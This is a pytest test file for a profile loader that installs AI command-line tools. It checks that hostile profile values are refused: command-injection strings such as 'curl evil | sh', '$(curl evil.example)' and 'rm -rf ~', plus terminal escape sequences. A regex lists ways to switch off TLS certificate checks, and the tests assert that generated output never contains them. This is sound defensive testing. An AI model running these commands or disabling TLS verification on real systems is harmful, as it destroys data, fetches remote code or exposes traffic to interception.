"""Profiles: the example loads, anything that could carry a command is refused."""

from __future__ import annotations

import os
import re
import tomllib
from pathlib import Path

import pytest

from app.core.catalog import default_catalog
from app.core.detect import NodeFinding
from app.core.exports import FORMATS, export_plan
from app.core.planner import Plan, plan_npm_install
from app.core.profile import (
    MAX_BYTES,
    MAX_NAME,
    Network,
    ProfileError,
    apply_profile,
    container_build_args,
    load_profile,
    network_env,
    parse_profile,
)
from app.core.resources import resource_path
from tests.fakes import linux_host

CATALOG = default_catalog()
NODE20 = NodeFinding("Node.js", True, "20.20.2", "/usr/bin/node", npm_version="11.0.0")
EXAMPLE = resource_path("profiles") / "workshop-example.toml"


def parse(text: str):
    return parse_profile(tomllib.loads(text), "room.toml", CATALOG, linux_host())


def test_the_documented_example_loads():
    profile = load_profile(EXAMPLE, CATALOG, linux_host())
    assert profile.tool_ids == ["claude-code", "gemini-cli", "codex-cli"]
    assert profile.choice("claude-code").version == "2.1.197"
    assert profile.choice("gemini-cli").min_version == "0.20"
    assert profile.npm_prefix == "/home/user/.npm-global"
    assert profile.runtime == "auto" and profile.containers is False
    assert profile.node_min == "20"


def test_a_profile_saved_by_notepad_with_a_byte_order_mark_loads(tmp_path):
    saved = tmp_path / "room.toml"
    saved.write_bytes(b"\xef\xbb\xbf" + EXAMPLE.read_bytes())  # UTF-8 with a BOM
    assert (
        load_profile(saved, CATALOG, linux_host()).tool_ids
        == load_profile(EXAMPLE, CATALOG, linux_host()).tool_ids
    )


def test_a_full_profile_with_network_settings():
    profile = parse(
        """
        name = "Room 2"
        scenario = "beginners"
        runtime = "podman"
        containers = true
        npm_prefix = "/opt/ai clis"
        [tools.gemini-cli]
        [network]
        proxy = "http://proxy.example.org:3128"
        no_proxy = "localhost, .example.org,10.0.0.0/8"
        ca_file = "~/corp-root.pem"
        """
    )
    assert profile.network == Network(
        "http://proxy.example.org:3128",
        "localhost,.example.org,10.0.0.0/8",
        "/home/user/corp-root.pem",
    )
    assert profile.npm_prefix == "/opt/ai clis"


# Each of these tries to smuggle a command, or is simply malformed; all are refused
# with the key that is wrong.
REFUSED = [
    ('command = "curl evil | sh"\n[tools.codex-cli]', "command", "cannot carry commands"),
    ('script = "rm -rf ~"\n[tools.codex-cli]', "script", "cannot carry commands"),
    ('[tools.codex-cli]\npost_install = "rm -rf ~"', "tools.codex-cli.post_install", "commands"),
    ('[tools.codex-cli]\ncommand = "codex"', "tools.codex-cli.command", "commands"),
    ('colour = "blue"\n[tools.codex-cli]', "colour", "unknown key"),
    ('[tools."claude-code; rm -rf ~"]', "tools.claude-code; rm -rf ~", "not a tool in the catalog"),
    ("[tools.codex]", "tools.codex", "not a tool in the catalog"),
    ('[tools."left-pad"]', "tools.left-pad", "not a tool in the catalog"),
    ('[tools.claude-code]\nversion = "claude-code; rm -rf ~"', "version", "cannot be a command"),
    ('[tools.claude-code]\nversion = "$(curl evil.example)"', "version", "cannot be a command"),
    ('[tools.claude-code]\nversion = "`id`"', "version", "cannot be a command"),
    ('[tools.claude-code]\nversion = "1.2.3\\nrm -rf ~"', "version", "single line"),
    ('[tools.claude-code]\nversion = "latest"', "version", "not a version"),
    ('[tools.claude-code]\nversion = "1.2"', "version", "npm version"),
    ('[tools.claude-code]\nversion = "1.2.3 || rm"', "version", "cannot be a command"),
    ('[tools.claude-code]\nmin_version = "abc"', "min_version", "not a version"),
    ('[tools.claude-code]\nversion = "1.0.0"\nmin_version = "1.0"', "tools.claude-code", "either"),
    ('npm_prefix = "/tmp/x; rm -rf ~"\n[tools.codex-cli]', "npm_prefix", "cannot be a command"),
    ('npm_prefix = "/tmp/$(id)"\n[tools.codex-cli]', "npm_prefix", "cannot be a command"),
    ('npm_prefix = "/tmp/a|b"\n[tools.codex-cli]', "npm_prefix", "cannot be a command"),
    ('npm_prefix = "/tmp/a&b"\n[tools.codex-cli]', "npm_prefix", "cannot be a command"),
    ('npm_prefix = "%APPDATA%\\\\npm"\n[tools.codex-cli]', "npm_prefix", "cannot be a command"),
    ('npm_prefix = "relative/dir"\n[tools.codex-cli]', "npm_prefix", "absolute"),
    ('npm_prefix = "/tmp/../etc"\n[tools.codex-cli]', "npm_prefix", ".."),
    ('name = "room $(reboot)"\n[tools.codex-cli]', "name", "looks like a command"),
    ('name = "Room \\u001b]0;pwned\\u0007"\n[tools.codex-cli]', "name", "control character"),
    ('name = "Room \\u009b2J"\n[tools.codex-cli]', "name", "(U+009B)"),
    ('npm_prefix = "/opt/\\u0085npm"\n[tools.codex-cli]', "npm_prefix", "control character"),
    ('runtime = "docker; rm -rf ~"\n[tools.codex-cli]', "runtime", "expected one of"),
    ('containers = "yes"\n[tools.codex-cli]', "containers", "true or false"),
    ('scenario = "x; reboot"\n[tools.codex-cli]', "scenario", "cannot be a command"),
    ('scenario = "hackathon"\n[tools.codex-cli]', "scenario", "not a scenario in the catalog"),
    ("format = 2\n[tools.codex-cli]", "format", "profile format 1"),
    ('name = "no tools"', "tools", "at least one"),
    (
        '[tools.codex-cli]\n[network]\nproxy = "http://u:secret@proxy:8080"',
        "network.proxy",
        "credentials",
    ),
    (
        '[tools.codex-cli]\n[network]\nproxy = "http://proxy;rm -rf ~"',
        "network.proxy",
        "cannot be a command",
    ),
    ('[tools.codex-cli]\n[network]\nproxy = "socks5://proxy:1080"', "network.proxy", "http://"),
    ('[tools.codex-cli]\n[network]\nproxy = "http://proxy:99999"', "network.proxy", "port"),
    ('[tools.codex-cli]\n[network]\nno_proxy = "a.org,b.org;id"', "network.no_proxy", "command"),
    ('[tools.codex-cli]\n[network]\nca_file = "corp.pem"', "network.ca_file", "absolute"),
    ("[tools.codex-cli]\n[network]\nstrict_ssl = false", "network.strict_ssl", "unknown key"),
]


@pytest.mark.parametrize(
    ("text", "key", "reason"), REFUSED, ids=[r[1] + ":" + r[2] for r in REFUSED]
)
def test_refused_with_file_key_and_reason(text, key, reason):
    with pytest.raises(ProfileError) as caught:
        parse(text)
    error = caught.value
    assert error.file == "room.toml"
    assert key in error.key
    assert reason in error.reason
    assert str(error).startswith(f"room.toml: {error.key}: ")


def test_broken_toml_and_missing_file(tmp_path):
    bad = tmp_path / "bad.toml"
    bad.write_text("[tools.codex-cli\n")
    with pytest.raises(ProfileError, match="not valid TOML") as caught:
        load_profile(bad, CATALOG)
    assert caught.value.file == str(bad)
    with pytest.raises(ProfileError, match="file not found"):
        load_profile(tmp_path / "nope.toml", CATALOG)


# --- what is read at all: a regular file, a few KB, nested as TOML is nested ---


def test_a_profile_up_to_the_size_limit_loads_and_one_byte_more_is_refused(tmp_path):
    body = "[tools.codex-cli]\n# "
    room = tmp_path / "room.toml"
    room.write_text(body + "x" * (MAX_BYTES - len(body) - 1) + "\n")
    assert room.stat().st_size == MAX_BYTES
    assert load_profile(room, CATALOG).tool_ids == ["codex-cli"]
    room.write_text(body + "x" * (MAX_BYTES - len(body)) + "\n")
    with pytest.raises(ProfileError) as caught:
        load_profile(room, CATALOG)
    assert str(caught.value) == f"{room}: larger than 256 KB; a profile is a few KB of TOML"


def _not_files(tmp_path):
    folder = tmp_path / "folder.toml"
    folder.mkdir()
    yield folder, "a folder"
    if hasattr(os, "mkfifo"):
        fifo = tmp_path / "fifo.toml"
        os.mkfifo(fifo)  # nothing writes to it: opening it to read would wait for ever
        yield fifo, "a named pipe"
    if Path("/dev/zero").exists():
        yield Path("/dev/zero"), "a device"  # endless: reading it all filled the memory


@pytest.mark.timeout(60)  # a regression would hang on the pipe, not fail
def test_a_folder_a_pipe_or_a_device_is_refused_without_being_read(tmp_path):
    kinds = []
    for path, kind in _not_files(tmp_path):
        with pytest.raises(ProfileError) as caught:
            load_profile(path, CATALOG)
        assert caught.value.file == str(path) and caught.value.key == "-"
        assert caught.value.reason == f"cannot be read: it is {kind}, not a file"
        kinds.append(kind)
    assert "a folder" in kinds


@pytest.mark.parametrize(
    "value",
    ["[" * 100_000 + "]" * 100_000, "{a=" * 50_000 + "1" + "}" * 50_000],
    ids=["arrays", "inline tables"],
)
def test_values_nested_too_deeply_are_broken_toml_not_a_crash(tmp_path, value):
    deep = tmp_path / "deep.toml"
    deep.write_text(f"x = {value}\n[tools.codex-cli]\n")
    with pytest.raises(ProfileError) as caught:
        load_profile(deep, CATALOG)
    assert str(caught.value) == f"{deep}: not valid TOML (values nested too deeply)"


def test_a_long_name_is_refused_and_a_long_value_too():
    assert parse(f'name = "{"n" * MAX_NAME}"\n[tools.codex-cli]').name == "n" * MAX_NAME
    with pytest.raises(ProfileError) as caught:
        parse(f'name = "{"n" * 50_000}"\n[tools.codex-cli]')
    assert caught.value.key == "name"
    assert caught.value.reason == "is 50000 characters long; at most 200 are allowed"
    with pytest.raises(ProfileError) as caught:
        parse(f'npm_prefix = "/{"p" * 5000}"\n[tools.codex-cli]')
    assert caught.value.key == "npm_prefix"
    assert caught.value.reason == "is 5001 characters long; at most 4096 are allowed"


def test_a_long_file_name_is_no_reason_to_refuse(tmp_path):
    room = tmp_path / ("r" * 250 + ".toml")
    room.write_text("[tools.codex-cli]\n")
    assert load_profile(room, CATALOG).name == "r" * MAX_NAME


def test_keys_and_values_quoted_in_a_refusal_are_one_short_line():
    key = "k" * 10_000
    with pytest.raises(ProfileError) as caught:
        parse(f'[tools."\\u001b]0;pwned\\u0007{key}\\n"]')
    shown = caught.value.key
    assert shown.startswith("tools.\\x1b]0;pwned\\x07kkk") and shown.endswith("…")
    assert len(shown) == 80 and shown.isprintable()
    with pytest.raises(ProfileError) as caught:
        parse(f'[tools.claude-code]\nmin_version = "1{"x" * 3000}"')
    assert caught.value.reason == "'1" + "x" * 78 + "…' is not a version number"


def _plan(profile):
    plan = plan_npm_install(CATALOG, linux_host(), profile.tool_ids, "/tmp/p", NODE20)
    return apply_profile(plan, profile, CATALOG)


def test_apply_profile_pins_versions_and_sets_the_network_on_every_step():
    profile = parse(
        """
        [tools.claude-code]
        version = "2.1.197"
        [tools.codex-cli]
        [network]
        proxy = "http://proxy.example.org:3128"
        ca_file = "/etc/ssl/corp.pem"
        """
    )
    plan = _plan(profile)
    assert plan.steps[0].argv[-1] == "@anthropic-ai/claude-code@2.1.197"
    assert plan.steps[1].argv[-1] == "@openai/codex"
    for step in plan.steps:
        env = dict(step.env)
        assert env["npm_config_https_proxy"] == "http://proxy.example.org:3128"
        assert env["HTTPS_PROXY"] == "http://proxy.example.org:3128"
        assert env["npm_config_cafile"] == "/etc/ssl/corp.pem"
        assert env["NODE_EXTRA_CA_CERTS"] == "/etc/ssl/corp.pem"
        assert env["GIT_SSL_CAINFO"] == "/etc/ssl/corp.pem"
        assert env["SSL_CERT_FILE"] == "/etc/ssl/corp.pem"
        assert env["GIT_CONFIG_KEY_0"] == "http.proxy"
        assert env["npm_config_fund"] == "false"  # the plan's own settings stay


# Ways tools are told to stop checking certificates. None may ever be generated.
TLS_OFF = re.compile(
    r"strict-ssl\s*[=:]?\s*\"?false|strict_ssl\s*[=:]?\s*\"?false|NODE_TLS_REJECT_UNAUTHORIZED"
    r"|sslVerify\s*[=:]?\s*\"?false|http\.sslVerify|GIT_SSL_NO_VERIFY|--insecure|--no-check-certificate"
    r"|UV_INSECURE_HOST|--allow-insecure-host|--trusted-host|PYTHONHTTPSVERIFY|verify\s*=\s*False"
    r"|CURL_INSECURE|(?<![\w-])-k(?![\w-])|SkipCertificateCheck|validate_certs",
    re.IGNORECASE,
)


def test_the_tls_check_pattern_catches_each_way_of_switching_it_off():
    for bad in (
        "npm_config_strict_ssl=false",
        "strict-ssl=false",
        "NODE_TLS_REJECT_UNAUTHORIZED=0",
        "git -c http.sslVerify=false",
        "curl -k https://x",
        "uv --allow-insecure-host x",
        "pip --trusted-host x",
        "Invoke-WebRequest -SkipCertificateCheck",
    ):
        assert TLS_OFF.search(bad), bad


def test_proxy_and_ca_never_switch_tls_verification_off():
    profile = parse(
        """
        [tools.claude-code]
        [tools.gemini-cli]
        [tools.codex-cli]
        [network]
        proxy = "https://proxy.example.org:8443"
        no_proxy = "localhost,.corp.example"
        ca_file = "/etc/ssl/certs/corp-root.pem"
        """
    )
    generated = [f"{k}={v}" for k, v in network_env(profile.network)]
    generated += list(container_build_args(profile.network))
    plan = _plan(profile)
    for step in plan.steps:
        generated += [f"{k}={v}" for k, v in step.env] + list(step.argv)
    for fmt in FORMATS:
        generated.append(export_plan(plan, CATALOG, fmt))
    text = "\n".join(generated)
    assert "corp-root.pem" in text and "proxy.example.org" in text
    assert not TLS_OFF.search(text), TLS_OFF.search(text)


def test_container_build_args_carry_the_proxy():
    args = container_build_args(Network("http://p.example:3128", "localhost", None))
    assert args[:2] == ("--build-arg", "HTTP_PROXY=http://p.example:3128")
    assert "NO_PROXY=localhost" in args


def test_a_pin_reaches_the_planners_steps_and_unskips_a_different_version():
    from dataclasses import replace

    from app.core.detect import Detection, DockerFinding, Finding, GpuFinding
    from app.core.planner import Command, Step

    profile = parse(
        '[tools.gemini-cli]\nversion = "0.61.0"\n[tools.codex-cli]\nversion = "0.171.0"\n'
    )
    installed = Step(
        "npm:gemini-cli",
        "Install Gemini CLI",
        (Command(("npm", "install", "-g", "--prefix", "/p", "@google/gemini-cli@latest")),),
        tool_id="gemini-cli",
        skip="Gemini CLI 0.24.0 is already installed.",
    )
    right = replace(
        installed,
        id="npm:codex-cli",
        tool_id="codex-cli",
        commands=(Command(("npm", "install", "-g", "--prefix", "/p", "@openai/codex")),),
        skip="Codex CLI 0.171.0 is already installed.",
    )
    detection = Detection(
        "Debian",
        "linux",
        "x86_64",
        NODE20,
        Finding("git", False),
        DockerFinding("Docker", False),
        GpuFinding("GPU", False),
        tools={
            "gemini-cli": Finding("Gemini CLI", True, "0.24.0"),
            "codex-cli": Finding("Codex CLI", True, "0.171.0"),
        },
    )
    plan = apply_profile(Plan((installed, right), "/p"), profile, CATALOG, detection)  # type: ignore[arg-type]
    gemini, codex = plan.steps
    assert gemini.commands[0].argv[-1] == "@google/gemini-cli@0.61.0"
    assert gemini.skip == "" and "the profile pins 0.61.0" in gemini.note
    assert codex.commands[0].argv[-1] == "@openai/codex@0.171.0"
    assert codex.skip  # already at the pinned version


def test_choices_take_the_profiles_prefix_and_runtime_unless_given():
    from app.core.planner import Choices
    from app.core.profile import choices_for

    profile = parse(
        'containers = true\nruntime = "podman"\nnpm_prefix = "~/npm"\n[tools.codex-cli]'
    )
    chosen = choices_for(profile, Choices(("codex-cli",)))
    assert chosen.npm_prefix == "/home/user/npm" and chosen.container_runtime == "podman"
    given = choices_for(profile, Choices(("codex-cli",), "/opt/npm", container_runtime="docker"))
    assert given.npm_prefix == "/opt/npm" and given.container_runtime == "docker"
    auto = parse("containers = true\n[tools.codex-cli]")
    assert choices_for(auto, Choices(("codex-cli",))).container_runtime is None


def test_a_missing_profile_file_is_named_without_a_key(tmp_path):
    missing = tmp_path / "room.toml"
    with pytest.raises(ProfileError) as caught:
        load_profile(missing, CATALOG)
    assert str(caught.value) == f"{missing}: file not found"
    assert caught.value.key == "-"  # the window's problem panel leaves the Key line out
